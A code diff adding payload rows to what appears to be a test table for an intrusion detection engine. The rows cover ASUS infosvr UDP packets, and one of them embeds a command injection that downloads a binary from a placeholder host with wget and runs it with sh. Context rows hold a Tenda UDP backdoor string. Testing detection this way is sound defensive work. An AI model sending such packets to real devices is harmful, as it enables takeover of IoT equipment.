@@ -302,6 +302,12 @@ PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, false,
     "GET /dvr/cmds HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
 PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, false,
     "<DVR Platform=\"x86\">")
+PAYLOAD_ROW("iot-asus-infosvr", UDP, 9999, true,
+    "\014\0253\000abcdefghijABCDEFGHIJKLMNOPQRSTUVWXYZ012345\035\000wget http://192.0.2.9/mips; sh mips\000")
+PAYLOAD_ROW("iot-asus-infosvr", UDP, 9999, false,
+    "\014\025\037\000\000\000\000\000\000\000\000\000")
+PAYLOAD_ROW("iot-asus-infosvr", UDP, 9998, false,
+    "\014\0253\000abcdefghijABCDEFGHIJKLMNOPQRSTUVWXYZ012345\003\000ls\000")
 PAYLOAD_ROW("iot-tenda-udp", UDP, 7329, true,
     "w302r_mfg\000x/bin/ls")
 PAYLOAD_ROW("iot-tenda-udp", UDP, 7329, false,
